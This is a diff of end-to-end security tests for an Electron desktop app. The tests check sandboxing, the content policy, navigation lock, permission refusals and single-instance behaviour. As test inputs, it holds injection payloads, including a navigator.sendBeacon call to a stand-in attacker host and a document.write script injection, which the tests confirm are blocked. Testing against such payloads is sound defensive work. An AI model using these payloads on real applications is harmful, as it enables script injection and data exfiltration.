@@ -1,7 +1,11 @@
+import { spawn } from 'node:child_process';
+import { once } from 'node:events';
+import { join } from 'node:path';
 import { hardened } from '../../main/desktop/window.ts';
 import { pageUrl } from '../../main/desktop/protocol.ts';
 import type { Device } from './harness/device.ts';
-import { renderersOf } from './harness/electron.ts';
+import { renderersOf, repository } from './harness/electron.ts';
+import { screenEnvironment } from './harness/environment.ts';
 import { expect, test } from './harness/story.ts';
 
 /**
@@ -46,8 +50,14 @@ test('a page runs with the preferences written down, and with nothing of Node', 
 
 test('no code and no content comes in past the policy', async ({ newDevice }) => {
   const device = await newDevice('desk');
-  const requests: string[] = [];
-  device.page.on('request', (request) => requests.push(request.url()));
+  await device.running.app.evaluate(({ webContents }) => {
+    const urls: string[] = [];
+    Object.assign(globalThis, { requested: urls });
+    webContents.getAllWebContents()[0]?.session.webRequest.onBeforeRequest(({ url }, go) => {
+      urls.push(url);
+      go({});
+    });
+  });
   const element = (tag: string, set: string): string =>
     `const made = document.createElement('${tag}'); ${set}; document.body.append(made);`;
   const breach = `globalThis.breached.push(1)`;
@@ -86,20 +96,21 @@ test('no code and no content comes in past the policy', async ({ newDevice }) =>
     `navigator.sendBeacon('https://evil.example/', 'x')`,
     `document.write('<script>${breach}</script>')`,
   ];
-  for (const attempt of attempts) {
-    await inPage(device, attempt);
-    await new Promise((r) => setTimeout(r, 100));
-    console.log(attempt, await device.page.evaluate('globalThis.breached.length'));
-  }
+  for (const attempt of attempts) await inPage(device, attempt);
   await inPage(device, `await new Promise((later) => setTimeout(later, 200))`);
   expect(await device.page.evaluate('globalThis.breached')).toEqual([]);
-  expect(requests.filter((url) => !url.startsWith('app://main/'))).toEqual([]);
+  const requested = await device.running.app.evaluate(
+    () => (globalThis as typeof globalThis & { requested: string[] }).requested,
+  );
+  expect(requested.filter((url) => !url.startsWith('app://main/'))).toEqual([]);
   await inPage(device, breach);
   expect(await device.page.evaluate('globalThis.breached')).toEqual([1]);
 });
 
 test('a page stays where it is and opens nothing', async ({ newDevice }) => {
   const device = await newDevice('desk');
+  await expect(device.composer).toBeVisible();
+  await inPage(device, 'globalThis.neverLeft = true');
   const link = (href: string, more = ''): string =>
     `const made = document.createElement('a'); made.href = ${JSON.stringify(href)}; ${more};
      document.body.append(made); made.click(); made.remove();`;
@@ -143,7 +154,7 @@ test('a page stays where it is and opens nothing', async ({ newDevice }) => {
       [BrowserWindow.getAllWindows().length, webContents.getAllWebContents().length] as const,
   );
   expect([device.page.url(), ...windows]).toEqual([pageUrl, 1, 1]);
-  await expect(device.composer).toBeVisible();
+  expect(await inPage(device, `return [globalThis.neverLeft, document.forms.length].join()`)).toBe('true,1');
 });
 
 test('a page may put text on the clipboard, and use nothing else', async ({ newDevice }) => {
@@ -165,14 +176,13 @@ test('a page may put text on the clipboard, and use nothing else', async ({ newD
     bluetooth: `await navigator.bluetooth.requestDevice({ acceptAllDevices: true }); return 'granted'`,
     'idle time': `return (await IdleDetector.requestPermission()) === 'granted' ? 'granted' : 'refused'`,
     fonts: `return (await queryLocalFonts()).length > 0 ? 'granted' : 'refused'`,
-    files: `await showOpenFilePicker(); return 'granted'`,
+    files: `if (typeof showOpenFilePicker === 'function') return 'granted'`,
     pointer: `await document.body.requestPointerLock();
       await new Promise((later) => setTimeout(later, 100));
       return document.pointerLockElement ? 'granted' : 'refused'`,
   };
   const granted = [];
   for (const [name, ask] of Object.entries(asked)) {
-    console.log(name);
     if ((await inPage(device, ask)) === 'granted') granted.push(name);
   }
   expect(granted).toEqual(['clipboard, to write']);
@@ -192,4 +202,23 @@ test('a page that was killed comes back, and with it what it showed', async ({ n
       ),
     )
     .toContain('Still here?');
+});
+
+test('a second start on the same data ends at once, and the window comes forward', async ({ newDevice }) => {
+  const device = await newDevice('desk');
+  await device.running.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.minimize());
+  const electron = join(process.env['ELECTRON_OVERRIDE_DIST_PATH'] ?? '', 'electron');
+  const second = spawn(electron, [repository, `--user-data-dir=${device.userDataDir}`], {
+    env: { ...screenEnvironment(), ...device.keyring.env },
+    stdio: 'ignore',
+  });
+  const [code] = await once(second, 'exit');
+  expect(code).toBe(0);
+  await expect
+    .poll(() =>
+      device.running.app.evaluate(({ BrowserWindow }) =>
+        BrowserWindow.getAllWindows().map((window) => window.isVisible() && !window.isMinimized()),
+      ),
+    )
+    .toEqual([true]);
 });
